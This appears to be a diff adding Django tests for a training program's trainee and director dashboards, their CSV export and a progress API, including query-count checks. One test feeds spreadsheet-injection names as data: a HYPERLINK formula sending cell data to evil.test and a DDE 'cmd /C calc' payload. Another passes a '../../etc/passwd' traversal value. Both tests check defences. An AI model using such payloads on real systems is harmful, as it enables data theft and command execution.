@@ -1,0 +1,494 @@
+"""The trainee dashboard (trainees:progress), the director dashboard (programs:dashboard, with its sort, filters and
+CSV export) and GET /api/v1/enrollments/{id}/progress/: what they show, and that their query counts do not grow
+with the number of trainees or cases."""
+
+import csv
+import datetime
+import io
+import re
+
+import pytest
+from django.db import connection
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+from django.utils.html import escape
+from rest_framework.test import APIClient
+
+from assessments.models import Competency, SignOff
+from cases.models import CaseLogEntry
+from programs.models import Membership
+from trainees.engine import get_ruleset
+from trainees.engine.evaluate import CURRICULUM
+from trainees.models import Enrollment
+from trainees.progress import report_for
+
+from ..factories import EnrollmentFactory, EntryFactory, MembershipFactory, UserFactory
+from .test_facts import BulkProgram
+
+pytestmark = pytest.mark.django_db
+
+ALL_TOPICS = [slug for slug, _ in CURRICULUM]
+
+
+def client_for(user) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def log(enrollment, mentor, n: int, *, days_ago: int = 3, **fields) -> None:
+    day = timezone.localdate() - datetime.timedelta(days=days_ago)
+    for _ in range(n):
+        EntryFactory(enrollment=enrollment, supervising_mentor=mentor, performed_on=day, **fields)
+
+
+# --- the trainee dashboard --------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def progress_url(enrollment, mentor):
+    log(enrollment, mentor, 12, signed=True, acquired_hands_on=True, case__categories=["flow", "valvular"])
+    log(enrollment, mentor, 2, submitted=True)
+    return reverse("trainees:progress", args=[enrollment.pk])
+
+
+@pytest.mark.parametrize("who", ["trainee", "mentor", "director"])
+def test_trainee_dashboard_renders_for_the_trainee_mentor_and_director(request, progress_url, enrollment, who):
+    response = client_for(request.getfixturevalue(who)).get(progress_url)
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    report = report_for(enrollment)
+    assert "What is missing" in html
+    assert report.missing  # 12 cases are far from Level II
+    for item in report.missing:
+        assert escape(item) in html
+    assert "138 more cases interpreted with a mentor" in html
+    assert "Curriculum topics not yet covered: MR safety" in html
+
+
+def test_trainee_dashboard_draws_its_charts_as_inline_svg(progress_url, trainee):
+    html = client_for(trainee).get(progress_url).content.decode()
+
+    charts = re.findall(r"<svg\b[^>]*\brole=\"img\"", html)
+    assert len(charts) >= 2  # the cumulative cases chart and the virtual share bar
+    assert "Cases over time" in html and "Cases interpreted with a mentor: cumulative" in html
+    assert "Curriculum coverage" in html and "Flow quantification" in html
+
+
+def test_trainee_dashboard_shows_every_requirement_with_its_progress(progress_url, trainee):
+    html = client_for(trainee).get(progress_url).content.decode()
+
+    for label in ("Training duration (full-time equivalent)", "Cases interpreted with a mentor", "Share of cases"):
+        assert label in html
+    assert 'aria-valuetext="12 of 150 cases"' in html
+    assert 'aria-valuetext="12 of 50 cases"' in html
+    assert 'aria-valuetext="2 of 15 topics"' in html
+
+
+def test_trainee_dashboard_shows_pending_reviews(progress_url, trainee):
+    response = client_for(trainee).get(progress_url)
+    assert response.context["report"].pending_reviews == 2
+    assert "awaiting review" in response.content.decode()
+
+
+def test_trainee_dashboard_can_evaluate_against_another_ruleset(progress_url, trainee, enrollment):
+    response = client_for(trainee).get(progress_url, {"ruleset": "cbcmr-maintenance"})
+
+    assert response.status_code == 200
+    assert response.context["ruleset"].id == "cbcmr-maintenance"
+    assert response.context["chosen_ruleset"] == "cbcmr-maintenance"
+    assert [r.key for r in response.context["report"].requirements] == ["recent_cases"]
+    html = response.content.decode()
+    assert "CBCMR certification maintenance (case volume)" in html
+    assert "for information; this enrollment is evaluated against scmr-2018-level-2" in html
+    assert '<option value="cbcmr-maintenance" selected>' in html
+    assert "88 more cases interpreted in the previous 24 months" in html
+    enrollment.refresh_from_db()
+    assert enrollment.ruleset == "scmr-2018-level-2"  # looking is not changing
+
+
+@pytest.mark.parametrize("other", ["scmr-2099-level-9", "../../etc/passwd", "", "scmr-2018-level-2"])
+def test_trainee_dashboard_falls_back_to_the_enrollments_ruleset(progress_url, trainee, other):
+    response = client_for(trainee).get(progress_url, {"ruleset": other})
+
+    assert response.status_code == 200
+    assert response.context["ruleset"].id == "scmr-2018-level-2"
+    assert response.context["chosen_ruleset"] == "scmr-2018-level-2"
+    assert "for information" not in response.content.decode()
+
+
+def test_trainee_dashboard_applies_the_programs_local_rules(progress_url, trainee, program):
+    program.local_rules = [{"key": "interpreted", "kind": "min_cases", "label": "Cases read (local)", "minimum": 200}]
+    program.save()
+
+    html = client_for(trainee).get(progress_url).content.decode()
+
+    assert "Cases read (local)" in html and "local rule" in html
+    assert "188 more cases read (local)" in html
+
+
+def test_trainee_dashboard_of_an_empty_log(enrollment, trainee):
+    response = client_for(trainee).get(reverse("trainees:progress", args=[enrollment.pk]))
+
+    assert response.status_code == 200
+    assert response.context["report"].requirement("interpreted").achieved == 0
+    assert "no projection yet" in response.content.decode()
+
+
+# --- the director dashboard -------------------------------------------------------------------------------------
+
+# Three trainees built so that each sort key orders them differently:
+#            name   pace/wk  forecast       reviews (waiting, pending)  flags                                  met
+#   anna     1st    2.0      in 469 days    (1, 1)                      behind pace, reviews waiting           2 (27%)
+#   clara    3rd    1.0      in 994 days    (0, 0)                      behind pace                            3
+#   bella    2nd    0        none           (0, 2)                      behind pace, over cap, in person       2 (23%)
+ORDERS = {
+    "name": ["anna", "bella", "clara"],
+    "pace": ["bella", "clara", "anna"],
+    "forecast": ["anna", "clara", "bella"],
+    "pending": ["clara", "bella", "anna"],
+    "flags": ["clara", "anna", "bella"],
+    "progress": ["bella", "anna", "clara"],
+}
+
+
+@pytest.fixture
+def cohort(program, mentor):
+    today = timezone.localdate()
+    anna = EnrollmentFactory(
+        program=program,
+        trainee=UserFactory(full_name="Anna Quick"),
+        mentors=[mentor],
+        start_date=today - datetime.timedelta(days=60),
+    )
+    log(anna, mentor, 16, signed=True, acquired_hands_on=True, case__categories=["flow"])
+    EntryFactory(
+        enrollment=anna,
+        supervising_mentor=mentor,
+        submitted=True,
+        submitted_at=timezone.now() - datetime.timedelta(days=8),
+    )
+
+    clara = EnrollmentFactory(
+        program=program,
+        trainee=UserFactory(full_name="Clara Steady"),
+        mentors=[mentor],
+        start_date=today - datetime.timedelta(days=60),
+    )
+    log(clara, mentor, 8, signed=True, acquired_hands_on=True, case__categories=ALL_TOPICS)
+
+    bella = EnrollmentFactory(
+        program=program, trainee=UserFactory(full_name="Bella Still"), start_date=today - datetime.timedelta(days=120)
+    )  # not supervised by `mentor`
+    log(
+        bella,
+        mentor,
+        20,
+        days_ago=100,
+        signed=True,
+        delivery=CaseLogEntry.Delivery.ASYNCHRONOUS,
+        case__categories=["flow"],
+    )
+    log(bella, mentor, 2, submitted=True)
+    SignOff.objects.create(
+        enrollment=bella,
+        competency=Competency.objects.create(code="stress", title="Stress perfusion", in_person_required=True),
+        signer=mentor,
+        signed_on=today - datetime.timedelta(days=3),
+        delivery=SignOff.Delivery.VIRTUAL,
+    )
+    return {"anna": anna, "clara": clara, "bella": bella}
+
+
+def dashboard(user, program, **params):
+    return client_for(user).get(reverse("programs:dashboard", args=[program.pk]), params)
+
+
+def names_in(response, cohort) -> list[str]:
+    """The trainees of the table, in order, from their drill-down links."""
+    by_pk = {e.pk: name for name, e in cohort.items()}
+    pks = re.findall(r'href="/enrollments/(\d+)/"><strong>', response.content.decode())
+    return [by_pk.get(int(pk), pk) for pk in pks]
+
+
+def names_in_csv(response, cohort) -> list[str]:
+    by_email = {e.trainee.email: name for name, e in cohort.items()}
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    return [by_email.get(row["email"], row["email"]) for row in rows]
+
+
+def test_the_cohort_is_what_the_table_says(cohort):
+    # A guard for ORDERS: if the engine changes, fix the cohort before reading the sort tests.
+    reports = {name: report_for(e) for name, e in cohort.items()}
+    assert {n: r.pace_per_week for n, r in reports.items()} == {"anna": 2.0, "clara": 1.0, "bella": 0}
+    today = timezone.localdate()
+    assert reports["anna"].forecast == today + datetime.timedelta(days=469)
+    assert reports["clara"].forecast == today + datetime.timedelta(days=994)
+    assert reports["bella"].forecast is None
+    assert {n: r.flag_codes for n, r in reports.items()} == {
+        "anna": {"behind_pace", "reviews_waiting"},
+        "clara": {"behind_pace"},
+        "bella": {"behind_pace", "over_virtual_cap", "missing_in_person"},
+    }
+    assert {n: r.met_count for n, r in reports.items()} == {"anna": 2, "clara": 3, "bella": 2}
+
+
+def test_director_sees_every_trainee_of_the_program(cohort, director, program):
+    response = dashboard(director, program)
+
+    assert response.status_code == 200
+    assert sorted(names_in(response, cohort)) == ["anna", "bella", "clara"]
+    html = response.content.decode()
+    assert "Anna Quick" in html and "the trainees you supervise" not in html
+    assert "1 review waiting &gt; 7 days" in html  # Anna's flag
+
+
+def test_mentor_sees_only_the_trainees_they_supervise(cohort, mentor, program):
+    response = dashboard(mentor, program)
+
+    assert response.status_code == 200
+    assert names_in(response, cohort) == ["anna", "clara"]
+    assert "the trainees you supervise" in response.content.decode()
+
+
+def test_mentor_without_trainees_sees_an_empty_table(cohort, program):
+    other_mentor = UserFactory()
+    MembershipFactory(user=other_mentor, program=program, role=Membership.Role.MENTOR)
+
+    response = dashboard(other_mentor, program)
+
+    assert response.status_code == 200
+    assert names_in(response, cohort) == []
+    assert "No trainees yet" in response.content.decode()
+
+
+@pytest.mark.parametrize("key", ORDERS)
+def test_sorting_by_each_column(cohort, director, program, key):
+    assert names_in(dashboard(director, program, sort=key), cohort) == ORDERS[key]
+
+
+@pytest.mark.parametrize("key", ORDERS)
+def test_sorting_descending_with_a_minus(cohort, director, program, key):
+    assert names_in(dashboard(director, program, sort=f"-{key}"), cohort) == ORDERS[key][::-1]
+
+
+def test_default_and_unknown_sort_is_by_name(cohort, director, program):
+    assert names_in(dashboard(director, program), cohort) == ORDERS["name"]
+    assert names_in(dashboard(director, program, sort="salary"), cohort) == ORDERS["name"]
+
+
+def test_the_sorted_column_says_so(cohort, director, program):
+    html = dashboard(director, program, sort="-pace").content.decode()
+    assert 'aria-sort="descending"' in html
+    assert "sort=pace" in html  # selecting it again sorts ascending
+
+
+@pytest.mark.parametrize(
+    ("flag", "expected"),
+    [
+        ("reviews_waiting", ["anna"]),
+        ("over_virtual_cap", ["bella"]),
+        ("missing_in_person", ["bella"]),
+        ("behind_pace", ["anna", "bella", "clara"]),
+        ("group_cap", []),
+        ("no-such-flag", ["anna", "bella", "clara"]),
+    ],
+)
+def test_filter_by_flag(cohort, director, program, flag, expected):
+    assert names_in(dashboard(director, program, flag=flag), cohort) == expected
+
+
+@pytest.mark.parametrize(
+    ("q", "expected"),
+    [("bella", ["bella"]), ("STEADY", ["clara"]), ("a", ["anna", "bella", "clara"]), ("zzz", [])],
+)
+def test_filter_by_name(cohort, director, program, q, expected):
+    assert names_in(dashboard(director, program, q=q), cohort) == expected
+
+
+def test_filter_by_email(cohort, director, program):
+    email = cohort["clara"].trainee.email
+    assert names_in(dashboard(director, program, q=email), cohort) == ["clara"]
+
+
+def test_no_match_says_so(cohort, director, program):
+    assert "No trainee matches these filters" in dashboard(director, program, q="zzz").content.decode()
+
+
+def test_withdrawn_trainees_show_only_when_asked(cohort, director, program):
+    gone = EnrollmentFactory(program=program, trainee=UserFactory(full_name="Wendy Withdrawn"), status="withdrawn")
+    cohort = {**cohort, "wendy": gone}
+
+    assert "wendy" not in names_in(dashboard(director, program), cohort)
+    assert names_in(dashboard(director, program, status="withdrawn"), cohort) == ["wendy"]
+    assert names_in(dashboard(director, program, status="all"), cohort) == ["anna", "bella", "clara", "wendy"]
+    assert names_in(dashboard(director, program, status="completed"), cohort) == []
+
+
+def test_csv_export_has_a_header_and_one_row_per_trainee(cohort, director, program):
+    response = dashboard(director, program, format="csv")
+
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    assert f'filename="program-{program.pk}-progress.csv"' in response["Content-Disposition"]
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    header, body = rows[0], rows[1:]
+    assert header[:5] == ["trainee", "email", "start_date", "status", "ruleset"]
+    assert {"interpreted_achieved", "interpreted_required", "hands_on_achieved", "flags", "forecast"} <= set(header)
+    assert len(body) == 3 and all(len(row) == len(header) for row in body)
+
+    anna = next(dict(zip(header, row, strict=True)) for row in body if row[0] == "Anna Quick")
+    report = report_for(cohort["anna"])
+    assert anna["interpreted_achieved"] == "16"
+    assert anna["interpreted_required"] == "150"
+    assert anna["flags"] == "behind_pace;reviews_waiting"
+    assert anna["forecast"] == report.forecast.isoformat()
+    assert anna["pace_per_week"] == "2.0"
+    assert anna["ruleset"] == "scmr-2018-level-2 v1"
+
+
+def test_csv_export_respects_the_filters_and_the_sort(cohort, director, program):
+    assert names_in_csv(dashboard(director, program, format="csv", flag="behind_pace", sort="-pace"), cohort) == [
+        "anna",
+        "clara",
+        "bella",
+    ]
+    assert names_in_csv(dashboard(director, program, format="csv", q="bella"), cohort) == ["bella"]
+    assert names_in_csv(dashboard(director, program, format="csv", flag="reviews_waiting"), cohort) == ["anna"]
+
+
+def test_csv_export_of_a_mentor_has_only_their_trainees(cohort, mentor, program):
+    assert names_in_csv(dashboard(mentor, program, format="csv"), cohort) == ["anna", "clara"]
+
+
+def test_csv_export_with_no_trainees_is_a_header(program, director):
+    rows = list(csv.reader(io.StringIO(dashboard(director, program, format="csv").content.decode())))
+    assert len(rows) == 1 and rows[0][0] == "trainee"
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.test/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)"])
+def test_csv_export_neutralises_names_a_spreadsheet_would_run(program, director, name):
+    # Trainees choose their own name at sign-up; the director opens the export in a spreadsheet (CSV injection).
+    EnrollmentFactory(program=program, trainee=UserFactory(full_name=name))
+
+    rows = list(csv.reader(io.StringIO(dashboard(director, program, format="csv").content.decode())))
+
+    assert not rows[1][0].startswith(("=", "+", "-", "@")), rows[1][0]
+    assert name in rows[1][0]
+
+
+def test_the_export_link_keeps_the_filters(cohort, director, program):
+    html = dashboard(director, program, flag="behind_pace", q="a", sort="pace").content.decode()
+    link = re.search(r'href="\?([^"]*format=csv[^"]*)"', html).group(1).replace("&amp;", "&")
+    assert set(link.split("&")) >= {"flag=behind_pace", "q=a", "sort=pace", "format=csv"}
+
+
+# --- the progress endpoint --------------------------------------------------------------------------------------
+
+
+def test_progress_endpoint_returns_the_same_report(progress_url, enrollment, trainee):
+    client = APIClient()
+    client.force_login(trainee)
+
+    response = client.get(f"/api/v1/enrollments/{enrollment.pk}/progress/")
+
+    assert response.status_code == 200
+    data = response.json()
+    expected = report_for(enrollment).as_dict()
+    assert data == expected
+    assert [r["key"] for r in data["requirements"]] == [r.key for r in get_ruleset("scmr-2018-level-2").rules] + [
+        "virtual_share",
+        "group_cap",
+    ]
+
+
+# --- query counts: 5 trainees x 10 cases, then 50 trainees x 300 cases --------------------------------------------
+
+
+@pytest.fixture
+def bulk(program, mentor):
+    return BulkProgram(program, mentor)
+
+
+def _queries(client, url: str) -> list[str]:
+    with CaptureQueriesContext(connection) as ctx:
+        response = client.get(url)
+    assert response.status_code == 200, response.content[:500]
+    return [q["sql"] for q in ctx.captured_queries]
+
+
+def _grow(bulk: BulkProgram, small: list) -> None:
+    bulk.add_cases(small, 290)
+    bulk.add_cases(bulk.add_trainees(45), 300)
+    assert Enrollment.objects.filter(program=bulk.program).count() == 50
+    assert CaseLogEntry.objects.filter(enrollment__program=bulk.program).count() == 15_000
+
+
+def _assert_flat(client, url: str, bulk: BulkProgram, small: list, expected: int) -> None:
+    client.get(url)  # warm-up: first-request caches
+    before = _queries(client, url)
+    _grow(bulk, small)
+    after = _queries(client, url)
+    listing = "\n".join(["--- 5 x 10:", *before, "--- 50 x 300:", *after])
+    assert len(before) == len(after), listing
+    assert len(after) == expected, listing
+
+
+def _small(bulk: BulkProgram) -> list:
+    small = bulk.add_trainees(5)
+    bulk.add_cases(small, 10)
+    return small
+
+
+def test_trainee_dashboard_query_count_does_not_grow(bulk):
+    small = _small(bulk)
+    me = small[0]
+    # 1. session  2. user  3. "is a director?" (MFA middleware)  4. the enrollment with trainee, program, director
+    # 5. the user's roles in the program (access function)  6-12. the facts: signed entries, their topics, the topic
+    # list, review counts, leave, attendance, sign-offs  13. the user's roles again (the view asks enrollment_roles
+    # a second time)  14. navigation roles  15. the enrollment's mentors  16. verification requests
+    _assert_flat(client_for(me.trainee), reverse("trainees:progress", args=[me.pk]), bulk, small, expected=16)
+
+
+def test_director_dashboard_query_count_does_not_grow(bulk, director, program):
+    small = _small(bulk)
+    # 1. session  2. user  3. "is a director?" (MFA)  4. authenticators  5. the program  6. the user's roles in it
+    # 7. the same roles again (see test_director_dashboard_reads_the_viewers_roles_once)  8. the enrollments with
+    # trainee and program  9-15. the facts, seven reads for all trainees at once  16. navigation roles
+    _assert_flat(client_for(director), reverse("programs:dashboard", args=[program.pk]), bulk, small, expected=16)
+
+
+def test_mentor_dashboard_query_count_does_not_grow(bulk, mentor, program):
+    small = _small(bulk)
+    # The director's queries without the authenticators (a mentor needs no MFA): the enrollments are filtered by
+    # mentor in the same query.
+    _assert_flat(client_for(mentor), reverse("programs:dashboard", args=[program.pk]), bulk, small, expected=15)
+
+
+def test_director_csv_export_query_count_does_not_grow(bulk, director, program):
+    small = _small(bulk)
+    # The dashboard's queries without the navigation roles (no page is rendered).
+    url = reverse("programs:dashboard", args=[program.pk]) + "?format=csv"
+    _assert_flat(client_for(director), url, bulk, small, expected=15)
+
+
+def test_progress_endpoint_query_count_does_not_grow(bulk, director):
+    small = _small(bulk)
+    client = APIClient()
+    client.force_login(director)
+    # 1. session  2. user  3. "is a director?" (MFA permission)  4. authenticators  5. the enrollment with trainee,
+    # program, director  6. the user's roles in the program  7-13. the facts
+    _assert_flat(client, f"/api/v1/enrollments/{small[0].pk}/progress/", bulk, small, expected=13)
+
+
+def test_director_dashboard_reads_the_viewers_roles_once(cohort, director, program):
+    # get_program_for_user stores the roles on program.viewer_roles "to save the caller a second query";
+    # dashboard_enrollments must use them rather than asking the database again.
+    url = reverse("programs:dashboard", args=[program.pk])
+    client = client_for(director)
+    sql = _queries(client, url)
+    roles = f'"programs_membership"."program_id" = {program.pk} AND "programs_membership"."user_id" = {director.pk}'
+    assert sum(roles in q for q in sql) == 1, "\n".join(q for q in sql if roles in q)
